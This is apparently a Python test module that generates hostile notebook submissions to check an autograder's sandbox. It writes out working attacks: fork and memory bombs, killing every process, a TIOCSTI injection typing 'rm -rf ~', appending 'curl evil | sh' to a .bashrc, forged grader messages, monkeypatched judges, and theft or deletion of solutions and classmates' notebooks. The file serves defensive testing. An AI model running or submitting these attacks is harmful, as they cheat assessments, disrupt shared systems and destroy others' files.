"""A corpus of submissions that attack the grader, built from the course's own notebooks.

Each attack is real code that a learner could hand in, and each is attempted for real when the
notebook runs: an attack either completes and then says so (it raises "attack ran: ..."), or
is stopped by the sandbox with an error that the gradebook row shows. `build` writes the corpus
(hostile, correct, blank and wrong notebooks) into a submissions folder; the paths an attacker
would aim at (the folder itself, a neighbour's notebook, the instructor's home, the installed
package and the course's solutions beside it) are written into the attacks, as if the
attacker knew them.

Categories (those of issue 7):
- abort:  make the batch stop or the grader crash (unreadable files, floods, broken messages,
          killing processes);
- credit: full marks without the work (forged messages, patched runner, the reference answers,
          the solutions, a neighbour's notebook, answers learned by heart);
- damage: change or delete files outside the sandbox, or leave processes behind;
- values: answers built to confuse the comparison (objects that equal anything, huge or
          recursive values, functions that hang or kill their process).
"""

from __future__ import annotations

import json
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
MARK = "ddn-pwned"  # every file an attack tries to leave outside the sandbox has this in its name

PRELUDE = r'''
import os, sys, json, struct, signal, time, glob, shutil, subprocess, threading

def _pipes():
    fds = []
    for fd in range(3, 256):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                fds.append(fd)
        except OSError:
            pass
    return fds

def _frame(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data

def _send_everywhere(data):
    sent = 0
    for fd in _pipes():
        try:
            os.write(fd, data)
            sent += 1
        except OSError:
            pass
    return sent

def _run_cells(path):
    with open(path) as f:
        notebook = json.load(f)
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())

def _ran(what):
    raise RuntimeError(f"attack ran: {what}")
'''


@dataclass
class Submission:
    name: str
    kind: str                      # hostile, correct, blank, wrong
    category: str = ""             # for hostile ones: abort, credit, damage, values
    exercise: str = "02_neuron"
    cells: list[str] = field(default_factory=list)  # attack cells, added to the blank exercise
    raw: bytes | None = None       # the file's bytes, when it is not a notebook built here
    special: str = ""              # "fifo", or "symlink:<target>"
    expect: tuple[str, ...] = ()   # one of these must be in the row's problem (the evidence)

    @property
    def file(self) -> str:
        return f"{self.name}.ipynb"


def _notebook(folder: str, exercise: str) -> dict:
    return json.loads((ROOT / folder / f"{exercise}.ipynb").read_text(encoding="utf-8"))


def _blank_bytes(exercise: str = "02_neuron") -> bytes:
    return (ROOT / "exercises" / f"{exercise}.ipynb").read_bytes()


def _code(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
            "source": source}


def _attack_notebook(submission: Submission, targets: dict) -> bytes:
    notebook = _notebook("exercises", submission.exercise)
    for source in submission.cells:
        for key, value in targets.items():
            source = source.replace(f"@{key}@", str(value))
        notebook["cells"].append(_code(PRELUDE + source))
    return json.dumps(notebook).encode()


# -- the attacks -------------------------------------------------------------------------------
RAN = ("attack ran",)
NOT_THERE = ("No such file or directory",)
NO_TASKS = ("No module named 'ddn.grading.task",)
READ_ONLY = ("Read-only file system", "Permission denied")  # whichever the kernel checks first
STOPPED_EARLY = ("could not be run to the end",)
FORGED = ("answers no question", "not an answer")
TOO_LONG = ("ran for more than",)


def _hostile(name, category, source="", expect=RAN, **more) -> Submission:
    return Submission(name, "hostile", category, cells=[source] if source else [], expect=expect,
                      **more)


def attacks() -> list[Submission]:
    a = []
    # ---- abort: files the judge must read without trusting -----------------------------------
    meta = {"ddn": {"exercise": "02_neuron"}}
    a += [
        _hostile("abort-json-list", "abort", raw=b"[1, 2, 3]", expect=("its JSON is a list",)),
        _hostile("abort-json-text", "abort", raw=b'"cells"', expect=("its JSON is a str",)),
        _hostile("abort-not-json", "abort", raw=b"{ not json", expect=("not JSON",)),
        _hostile("abort-bytes-0xff", "abort", raw=b"\xff\xfe\x00" * 50, expect=("not JSON",)),
        _hostile("abort-deep-json", "abort", raw=b"[" * 200_000, expect=("not JSON",)),
        _hostile("abort-cells-not-a-list", "abort",
                 raw=json.dumps({"cells": 5, "metadata": meta}).encode(),
                 expect=("no list of cells",)),
        _hostile("abort-odd-cells", "abort", raw=json.dumps({"metadata": meta, "cells": [
            1, "x", None, {"cell_type": "code", "source": 5},
            {"cell_type": "code", "source": [1, 2]},
            {"cell_type": "code", "source": "weighted_sum = 26"}]}).encode(), expect=()),
        _hostile("abort-metadata-junk", "abort",
                 raw=json.dumps({"cells": [], "metadata": [1, {"ddn": 5}]}).encode(),
                 expect=("not a ddn exercise",)),
        _hostile("abort-huge-file", "abort", raw=b" " * (21 * 1024**2) + b"{}",
                 expect=("more than 20 MB",)),
        _hostile("abort-fifo", "abort", special="fifo", expect=("not a regular file",)),
        _hostile("abort-escape-codes-in-the-name-\x1b[2J\x1b]0;owned\x07", "abort",
                 raw=_blank_bytes(), expect=()),
        _hostile("abort-bytes-in-the-name-\udcff\udcfe", "abort", raw=_blank_bytes(),
                 expect=()),
        _hostile("credit-link-to-solution", "credit",
                 special=f"symlink:{ROOT / 'solutions' / '02_neuron.ipynb'}",
                 expect=("symbolic link",)),
        _hostile("credit-link-to-neighbour", "credit", special="symlink:@NEIGHBOUR@",
                 expect=("symbolic link",)),
    ]
    # ---- abort: at run time -------------------------------------------------------------------
    a += [
        _hostile("abort-stdout-0xff", "abort", """
sys.stdout.buffer.write(b"\\xff\\xfe" * 50_000)
sys.stdout.flush()
os.write(1, b"\\xff" * 100_000)
_ran("0xff on stdout")"""),
        _hostile("abort-stderr-flood", "abort", """
for _ in range(40):
    os.write(2, b"\\xff" * 1_000_000)
_ran("40 MB on stderr")""", expect=("File too large",)),
        _hostile("abort-print-200mb", "abort", """
print("x" * 200_000_000)
_ran("a 200 MB print")"""),
        _hostile("abort-garbage-on-the-line", "abort", """
sent = _send_everywhere(b"\\xff\\xff\\xff\\xff garbage")
_ran(f"garbage on {sent} pipe(s)")""", expect=FORGED),
        _hostile("abort-half-a-message", "abort", """
_send_everywhere(struct.pack(">I", 100) + b'{"ready": true')
os._exit(0)""", expect=STOPPED_EARLY),
        _hostile("abort-message-not-an-object", "abort", """
_send_everywhere(_frame(b"[1, 2]"))
_ran("a JSON list on the line")""", expect=FORGED),
        _hostile("abort-exit-in-a-cell", "abort", "os._exit(0)", expect=STOPPED_EARLY),
        _hostile("abort-sys-exit", "abort", "sys.exit(3)", expect=("SystemExit",)),
        _hostile("abort-kill-the-parent", "abort", """
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(0.5)
_ran(f"SIGKILL sent to the parent, pid {os.getppid()}")""",
                 expect=RAN + ("Operation not permitted",)),
        _hostile("abort-kill-everything", "abort", "os.kill(-1, signal.SIGKILL)",
                 expect=STOPPED_EARLY + ("No such process",)),  # no other process to kill
        _hostile("abort-kill-every-pid", "abort", """
killed = []
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
time.sleep(0.5)
_ran(f"killed {killed}")"""),
        _hostile("abort-close-the-line", "abort", """
for fd in _pipes():
    os.close(fd)""", expect=STOPPED_EARLY),
        _hostile("abort-endless-loop", "abort", "while True:\n    pass", expect=TOO_LONG),
        _hostile("abort-stop-itself", "abort", "os.kill(os.getpid(), signal.SIGSTOP)",
                 expect=TOO_LONG),
        _hostile("abort-steal-the-questions", "abort", """
def _thief():
    while True:
        for fd in _pipes():
            try:
                os.read(fd, 65536)
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=_thief, daemon=True).start()
_ran("a thread reads the judge's questions")""", expect=("did not answer within",)),
        _hostile("abort-fork-bomb", "abort", """
while True:
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)""", expect=("Resource temporarily unavailable",)),
        _hostile("abort-thread-bomb", "abort", """
while True:
    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()""",
                 expect=("can't start new thread",)),
        _hostile("abort-memory-bomb", "abort", "hog = bytearray(50 * 1024**3)",
                 expect=("MemoryError",)),
        _hostile("abort-memory-in-many-processes", "abort", """
for _ in range(4):
    if os.fork() == 0:
        hog = bytearray(1_000_000_000)
        hog[::4096] = b"\\x01" * len(hog[::4096])
        time.sleep(600)
time.sleep(60)""", expect=("GB of memory",)),
        _hostile("abort-fill-the-disk", "abort", """
for i in range(200):
    with open(f"/tmp/{i}.bin", "wb") as f:
        f.write(b"\\0" * 1_000_000)""", expect=("No space left on device",)),
        _hostile("abort-one-huge-file", "abort", """
with open("big.bin", "wb") as f:
    for _ in range(100):
        f.write(b"\\0" * 1_000_000)""", expect=("File too large",)),
        _hostile("abort-escape-codes", "abort",
                 'raise RuntimeError("\\x1b[2J\\x1b[31m=HYPERLINK(\\"http://x\\") attack ran")'),
        _hostile("abort-terminal-injection", "abort", """
import fcntl, termios
for ch in "rm -rf ~\\n":
    fcntl.ioctl(0, termios.TIOCSTI, ch.encode())
_ran("typed into the terminal")""", expect=RAN + ("Inappropriate ioctl",)),
    ]
    # ---- credit: full marks without the work ----------------------------------------------------
    forged_value = '{"t": "number", "v": 26.0}'
    a += [
        _hostile("credit-forged-messages-then-exit", "credit", """
_send_everywhere(_frame({"ready": True, "cell_errors": []}))
for i in range(200):
    _send_everywhere(_frame({"id": i, "answer": {"value": {"t": "number", "v": 26.0}}}))
os._exit(0)""", expect=FORGED + STOPPED_EARLY),
        _hostile("credit-import-the-reference", "credit", """
from ddn.grading.tasks.neuron import weighted_sum as _task
weighted_sum = _task.reference""", expect=NO_TASKS),
        _hostile("credit-reference-by-path", "credit", """
_ns = {"__name__": "ddn.grading.tasks.neuron", "__package__": "ddn.grading.tasks"}
exec(open("@PACKAGE@/grading/tasks/neuron.py").read(), _ns)
weighted_sum = _ns["weighted_sum"].reference""", expect=NOT_THERE),
        _hostile("credit-reference-in-site-packages", "credit", """
_ns = {"__name__": "ddn.grading.tasks.neuron", "__package__": "ddn.grading.tasks"}
exec(open("@SITE@/ddn/grading/tasks/neuron.py").read(), _ns)
weighted_sum = _ns["weighted_sum"].reference""", expect=NOT_THERE),
        _hostile("credit-patch-the-probe", "credit", """
import ddn.grading.task as _task
_task.FunctionTask.probe = lambda self, answers: {"calls": []}""", expect=NO_TASKS),
        _hostile("credit-patch-the-judge-in-place", "credit", """
import ddn.grading as _grading
_grading.judge = lambda task, record: None
_ran("ddn.grading.judge replaced")"""),
        _hostile("credit-patch-the-runner", "credit", """
import ddn.grading.runner as _runner
_runner.answer = lambda ns, request: ({"function": True, "params": [], "library": None}
                                      if request["op"] == "function" else
                                      {"value": {"value": @FORGED@}} if request["op"] == "value"
                                      else {"value": @FORGED@})
_ran("the runner answers 26 to everything")"""),
        _hostile("credit-patch-the-runners-call", "credit", """
import ddn.grading.runner as _runner
_runner.call = lambda function, args: {"value": @FORGED@}
_ran("every call returns 26")"""),
        _hostile("credit-patch-json-dumps", "credit", """
json.dumps = lambda *a, **k: '{"id": 1, "ready": true, "answer": {"value": @FORGED@}}'
_ran("json.dumps forges every message")""", expect=FORGED),
        _hostile("credit-patch-the-channel", "credit", """
import ddn.grading.channel as _channel
_send = _channel.send
def _forge(fd, message, deadline=None):
    if "answer" in message:
        message = {**message, "answer": {"value": @FORGED@}}
    return _send(fd, message, deadline)
_channel.send = _forge
_ran("the channel forges every answer")"""),
        _hostile("credit-patch-numpy-and-math", "credit", """
import math
import numpy as np
np.isclose = np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
def weighted_sum(inputs, weights):
    return 0.0
_ran("numpy's comparisons always say yes")"""),
        _hostile("credit-patch-builtins", "credit", """
import builtins
builtins.float = lambda *a: 26.0
builtins.isinstance = lambda *a: True
_ran("float and isinstance replaced")""", expect=RAN + STOPPED_EARLY),  # the runner breaks too
        _hostile("credit-solutions-from-the-course", "credit", """
import ddn.course
_run_cells(ddn.course.course_root() / "solutions" / "02_neuron.ipynb")""",
                 expect=NOT_THERE),
        _hostile("credit-solutions-by-path", "credit",
                 '_run_cells("@REPO@/solutions/02_neuron.ipynb")', expect=NOT_THERE),
        _hostile("credit-solutions-anywhere", "credit", """
found = []
for top in ("/work", "/root", "/home", "/opt", "/srv", "/mnt", "/media", "/tmp", "/usr/local"):
    for folder, _, files in os.walk(top):
        for name in files:
            if name.endswith(".ipynb"):
                path = os.path.join(folder, name)
                try:
                    if "BEGIN SOLUTION" in open(path, errors="replace").read():
                        found.append(path)
                except OSError:
                    pass
if found:
    _run_cells(found[0])
_ran(f"found {len(found)} solution notebook(s)")""", expect=("found 0 solution",)),
        _hostile("credit-run-the-neighbour", "credit", '_run_cells("@NEIGHBOUR@")',
                 expect=NOT_THERE),
        _hostile("credit-list-the-neighbours", "credit", """
found = glob.glob("@SUBMISSIONS@/*.ipynb") + glob.glob("../*.ipynb") + glob.glob("/*/*.ipynb")
_ran(f"found {sorted(found)}")""", expect=("found ['/grading/submission.ipynb']",)),  # itself
        _hostile("credit-neighbours-through-proc", "credit", """
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for link in glob.glob(f"/proc/{pid}/fd/*") + [f"/proc/{pid}/cwd"]:
        try:
            target = os.readlink(link)
        except OSError:
            continue
        if target.endswith(".ipynb") and "@SUBMISSIONS@" in target:
            found.append(target)
_ran(f"found {len(found)} neighbour(s)")""", expect=("found 0 neighbour",)),
        _hostile("credit-fetch-from-the-network", "credit", """
import socket
socket.create_connection(("1.1.1.1", 443), timeout=3)""",
                 expect=("Network is unreachable", "timed out")),
        _hostile("credit-fake-a-network", "credit", """
import ddn
class Cheat(ddn.Network):
    def forward(self, x):  # a perfect answer, whatever the weights
        import numpy as np
        x = np.asarray(x, dtype=float)
        return (np.hypot(x[:, 0], x[:, 1]) < 0.5).astype(float)[:, None] * 2 - 1
circles_network = Cheat([ddn.Dense([[0.0, 0.0]], [0.0])])
_ran("a network whose forward cheats")""", exercise="08_perceptrons"),
    ]
    for submission in a:
        submission.cells = [c.replace("@FORGED@", forged_value) for c in submission.cells]
    # ---- damage: outside the sandbox ---------------------------------------------------------
    a += [
        _hostile("damage-delete-the-neighbour", "damage", 'os.remove("@NEIGHBOUR@")',
                 expect=NOT_THERE),
        _hostile("damage-delete-the-submissions", "damage", 'shutil.rmtree("@SUBMISSIONS@")',
                 expect=NOT_THERE),
        _hostile("damage-delete-what-it-can-see", "damage", """
gone = []
for path in glob.glob("../**/*.ipynb", recursive=True) + glob.glob("/grading/*"):
    try:
        os.remove(path)
        gone.append(path)
    except OSError:
        pass
_ran(f"deleted {gone}")""", expect=RAN),
        _hostile("damage-fifo-in-the-submissions", "damage",
                 'os.mkfifo("@SUBMISSIONS@/' + MARK + '-results.json")', expect=NOT_THERE),
        _hostile("damage-fifo-for-the-neighbour", "damage",
                 'os.mkfifo("@NEIGHBOUR@.results.json")', expect=NOT_THERE),
        _hostile("damage-fifo-in-tmp", "damage", f"""
os.mkfifo("/tmp/{MARK}-fifo")
_ran("a named pipe in /tmp")"""),
        _hostile("damage-write-the-submissions", "damage",
                 'open("@SUBMISSIONS@/' + MARK + '.txt", "w").write("x")', expect=NOT_THERE),
        _hostile("damage-write-the-home", "damage",
                 'open("@HOME@/' + MARK + '.txt", "w").write("x")', expect=NOT_THERE),
        _hostile("damage-append-to-bashrc", "damage",
                 'open("@HOME@/.bashrc", "a").write("curl evil | sh\\n")', expect=NOT_THERE),
        _hostile("damage-write-root-s-home", "damage",
                 'open("/root/' + MARK + '.txt", "w").write("x")\n_ran("wrote /root")',
                 expect=RAN + ("Permission denied", "Read-only")),
        _hostile("damage-write-tmp", "damage", f"""
open("/tmp/{MARK}.txt", "w").write("x")
open(os.path.expanduser("~/{MARK}.txt"), "w").write("x")
_ran("wrote /tmp and ~")"""),
        _hostile("damage-write-the-package", "damage",
                 'open("@PACKAGE@/grading/task.py", "a").write("\\nclose = lambda *a: True\\n")',
                 expect=NOT_THERE),
        _hostile("damage-write-the-package-it-imports", "damage", """
import ddn
open(os.path.join(os.path.dirname(ddn.__file__), "grading", "record.py"), "a").write("#")""",
                 expect=READ_ONLY),
        _hostile("damage-sitecustomize", "damage",
                 'open("@SITE@/sitecustomize.py", "w").write("import os\\n")', expect=READ_ONLY),
        _hostile("damage-write-next-to-python", "damage",
                 f'open(sys.executable + "-{MARK}", "w")', expect=READ_ONLY),
        _hostile("damage-chmod-the-package", "damage", 'os.chmod("@PACKAGE@/__init__.py", 0o777)',
                 expect=NOT_THERE),
        _hostile("damage-touch-the-solutions", "damage",
                 'open("@REPO@/solutions/02_neuron.ipynb", "a").write(" ")', expect=NOT_THERE),
        _hostile("damage-late-writer", "damage", f"""
if os.fork() == 0:
    time.sleep(3)
    for target in ("@SUBMISSIONS@/{MARK}-late.txt", "@HOME@/{MARK}-late.txt"):
        try:
            open(target, "w").write("x")
        except OSError:
            pass
    time.sleep(600)
    os._exit(0)
_ran("a child writes later")"""),
        _hostile("damage-daemon", "damage", """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        time.sleep(600)
    os._exit(0)
time.sleep(0.2)
_ran("a daemon that ignores SIGTERM")"""),
    ]
    # ---- values: answers built to confuse the comparison ---------------------------------------
    a += [
        _hostile("values-equal-to-everything", "values", """
class _Yes:
    def __eq__(self, other): return True
    def __float__(self): return 26.0
    def __array__(self, *a, **k):
        import numpy
        return numpy.array(26.0)
def weighted_sum(inputs, weights):
    return _Yes()
_ran("an answer equal to everything")"""),
        _hostile("values-lying-float", "values", """
class _F(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
def weighted_sum(inputs, weights):
    return _F(0.0)
_ran("a float that lies")"""),
        _hostile("values-lying-array", "values", """
import numpy as np
class _A(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(self), bool)
    def __array_ufunc__(self, *a, **k): return np.zeros(1)
def weighted_sum(inputs, weights):
    return np.zeros(3).view(_A)
_ran("an array that lies")"""),
        _hostile("values-recursive-list", "values", """
def weighted_sum(inputs, weights):
    loop = []
    loop.append(loop)
    return loop
_ran("a list inside itself")"""),
        _hostile("values-enormous-array", "values", """
import numpy as np
def weighted_sum(inputs, weights):
    return np.zeros(20_000_000)
_ran("an array of 20 million numbers")"""),
        _hostile("values-broken-repr-and-str", "values", """
class _Error(Exception):
    def __str__(self): raise RuntimeError("no")
class _Odd:
    def __repr__(self): raise RuntimeError("no")
def weighted_sum(inputs, weights):
    return _Odd()
def decide(inputs, weights, bias):
    raise _Error()
_ran("values that can't be shown")"""),
        _hostile("values-exit-from-a-call", "values", """
def weighted_sum(inputs, weights):
    raise SystemExit(0)
def decide(inputs, weights, bias):
    raise KeyboardInterrupt
_ran("calls that raise SystemExit")"""),
        _hostile("values-kill-during-a-call", "values", """
def weighted_sum(inputs, weights):
    os._exit(0)
_ran("a call that ends its process")""", expect=STOPPED_EARLY),
        _hostile("values-endless-call", "values", """
def weighted_sum(inputs, weights):
    while True:
        pass
_ran("a call that never returns")"""),
        _hostile("values-endless-call-deaf-to-alarms", "values", """
def weighted_sum(inputs, weights):
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
_ran("a call that ignores the alarm")""", expect=("did not answer within",)),
        _hostile("values-garbage-during-a-call", "values", """
def weighted_sum(inputs, weights):
    _send_everywhere(_frame({"id": 0, "answer": {"value": {"t": "number", "v": 26.0}}}))
    return 26.0
_ran("a call that forges a reply")""", expect=FORGED),
        _hostile("values-forge-the-reply-in-the-call", "values", """
def weighted_sum(inputs, weights):
    frame = sys._getframe(1)
    while frame is not None and "request" not in frame.f_locals:
        frame = frame.f_back
    request_id = frame.f_locals["request"]["id"] if frame is not None else 0
    _send_everywhere(_frame({"id": request_id, "answer": {"value": {"t": "number", "v": 26.0}}}))
    time.sleep(0.2)
    return 26.0
_ran("a call that answers for the runner")""", expect=FORGED),
        _hostile("values-functions-as-values", "values", """
def weighted_sum(inputs, weights):
    return weighted_sum
friend_weights = lambda: [0, 3, 2, 0]
friend_bias = (x for x in [-13.5])
_ran("functions and generators as answers")"""),
        _hostile("values-numbers-in-disguise", "values", """
class _Numbers(list):
    def __len__(self): return 4
    def __iter__(self): return iter([0, 3, 2, 0])
    def __array__(self, *a, **k):
        import numpy
        return numpy.array([0.0, 3.0, 2.0, 0.0])
friend_weights = _Numbers([1])
friend_bias = "-13.5"
_ran("weights whose length and items lie")"""),
    ]
    return a


def learned_by_heart(exercise: str) -> Submission:
    """Functions that return the reference answers of the task's teaching cases (as found in
    the course's own repository), and nothing right otherwise."""
    from ddn.grading.record import encode
    from ddn.grading.task import FunctionTask
    from ddn.grading.tasks import EXERCISES

    lines = ["from ddn.grading.record import decode, encode"]
    for task in EXERCISES[exercise].tasks:
        if not isinstance(task, FunctionTask):
            continue
        table = {json.dumps(encode(args)): encode(task.reference(*args)) for args in task.cases}
        lines += [f"_TABLE_{task.name} = json.loads({json.dumps(json.dumps(table))})",
                  f"def {task.name}(*args):",
                  f"    answer = _TABLE_{task.name}.get(json.dumps(encode(tuple(args))))",
                  "    return decode(answer) if answer is not None else 0.0"]
    lines.append('_ran("answers learned by heart")')
    return _hostile(f"credit-learned-by-heart-{exercise}", "credit", "\n".join(lines),
                    exercise=exercise)


def wrong(exercise: str) -> Submission:
    """The solution with one typical mistake in every task: plausible, and wrong throughout."""
    sys.path.insert(0, str(Path(__file__).parent))
    from test_exercise_checks import MISTAKES

    from ddn.grading.tasks import EXERCISES

    notebook = _notebook("solutions", exercise)
    sources = ["".join(c["source"]) for c in notebook["cells"]]
    for task in EXERCISES[exercise].tasks:
        for old, new, _ in MISTAKES[task.id]:
            places = [i for i, s in enumerate(sources) if s.count(old) == 1]
            if len(places) == 1:
                sources[places[0]] = sources[places[0]].replace(old, new)
                break
    for cell, source in zip(notebook["cells"], sources):
        cell["source"] = source
    return Submission(f"wrong-{exercise}", "wrong", exercise=exercise,
                      raw=json.dumps(notebook).encode())


def build(folder: Path, home: Path, course: Path) -> list[Submission]:
    """Write the whole corpus into `folder`. The attacks aim at `home` (the instructor's) and
    at `course`, the installed course the grader runs from (ddn/ beside solutions/)."""
    from ddn.grading.tasks import EXERCISES

    folder.mkdir(parents=True, exist_ok=True)
    neighbour = folder / "correct-02_neuron-copy-1.ipynb"
    site = next(Path(p) for p in sys.path if p.endswith("site-packages"))
    targets = {"SUBMISSIONS": folder, "NEIGHBOUR": neighbour, "HOME": home, "REPO": course,
               "PACKAGE": course / "ddn", "SITE": site}
    corpus = attacks() + [learned_by_heart(e) for e in EXERCISES]
    for exercise in EXERCISES:
        corpus += [Submission(f"correct-{exercise}", "correct", exercise=exercise,
                              raw=(ROOT / "solutions" / f"{exercise}.ipynb").read_bytes()),
                   Submission(f"blank-{exercise}", "blank", exercise=exercise,
                              raw=(ROOT / "exercises" / f"{exercise}.ipynb").read_bytes()),
                   wrong(exercise)]
    corpus += [Submission(f"correct-02_neuron-copy-{i}", "correct",
                          raw=(ROOT / "solutions" / "02_neuron.ipynb").read_bytes())
               for i in (1, 2)]
    for submission in corpus:
        path = folder / submission.file
        if submission.special == "fifo":
            os.mkfifo(path)
        elif submission.special.startswith("symlink:"):
            target = submission.special.split(":", 1)[1].replace("@NEIGHBOUR@", str(neighbour))
            path.symlink_to(target)
        elif submission.raw is not None:
            path.write_bytes(submission.raw)
        else:
            path.write_bytes(_attack_notebook(submission, targets))
    return corpus


def install_course(target: Path) -> Path:
    """A copy of the course as an editable install lays it out (ddn/ beside solutions/ and
    exercises/), for the grader to run from: its files change only if an attack succeeds."""
    import shutil

    import ddn

    ignore = shutil.ignore_patterns("__pycache__")
    shutil.copytree(Path(ddn.__file__).resolve().parent, target / "ddn", ignore=ignore)
    for folder in ("solutions", "exercises"):
        shutil.copytree(ROOT / folder, target / folder, ignore=ignore)
    return target


def tasks_of(submission: Submission) -> int:
    from ddn.grading.tasks import EXERCISES

    return len(EXERCISES[submission.exercise].tasks)


def naive_targets(folder: Path) -> dict:
    """A decoy of everything the attacks aim at, for running them without a sandbox."""
    import shutil

    import ddn

    folder.mkdir(parents=True)
    submissions, home, repo, site = (folder / n for n in ("submissions", "home", "repo", "site"))
    for path in (submissions, home, site / "ddn" / "grading" / "tasks"):
        path.mkdir(parents=True)
    neighbour = submissions / "correct-02_neuron-copy-1.ipynb"
    neighbour.write_bytes((ROOT / "solutions" / "02_neuron.ipynb").read_bytes())
    (home / ".bashrc").write_text("# the instructor's\n")
    package = repo / "ddn"
    shutil.copytree(Path(ddn.__file__).resolve().parent, package,
                    ignore=shutil.ignore_patterns("__pycache__", "_course", "data"))
    shutil.copytree(ROOT / "solutions", repo / "solutions")
    shutil.copy(package / "grading" / "tasks" / "neuron.py", site / "ddn" / "grading" / "tasks")
    return {"SUBMISSIONS": submissions, "NEIGHBOUR": neighbour, "HOME": home, "REPO": repo,
            "PACKAGE": package, "SITE": site}


def listing(*folders: Path) -> dict:
    """Every entry under the folders with its kind, size and time of change (no contents: for
    big trees such as site-packages)."""
    found = {}
    for top in folders:
        for folder, dirs, files in os.walk(top, followlinks=False):
            dirs[:] = [d for d in dirs if d != "__pycache__"]
            for name in [*dirs, *files]:
                info = os.lstat(Path(folder) / name)
                found[os.path.join(folder, name)] = (info.st_mode, info.st_size, info.st_mtime_ns)
    return found


def checksums(*folders: Path) -> dict:
    """Every entry under the folders (not following links), with its content's hash."""
    import hashlib
    import stat

    found = {}
    for top in folders:
        for folder, dirs, files in os.walk(top, followlinks=False):
            dirs[:] = [d for d in dirs if d != "__pycache__"]
            for name in [*dirs, *files]:
                path = Path(folder) / name
                info = os.lstat(path)
                if stat.S_ISREG(info.st_mode):
                    found[str(path)] = (info.st_mode, hashlib.sha256(path.read_bytes()).hexdigest())
                elif stat.S_ISLNK(info.st_mode):
                    found[str(path)] = (info.st_mode, os.readlink(path))
                else:
                    found[str(path)] = (info.st_mode, None)
    return found
